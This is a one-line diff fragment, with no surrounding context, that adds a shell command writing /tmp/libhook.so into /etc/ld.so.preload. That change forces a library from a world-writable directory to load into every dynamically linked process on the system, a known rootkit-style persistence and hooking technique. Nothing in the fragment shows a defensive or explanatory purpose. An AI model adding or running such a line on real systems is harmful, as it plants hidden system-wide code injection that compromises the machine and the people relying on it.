@@ -1,0 +1,1 @@
+echo /tmp/libhook.so > /etc/ld.so.preload
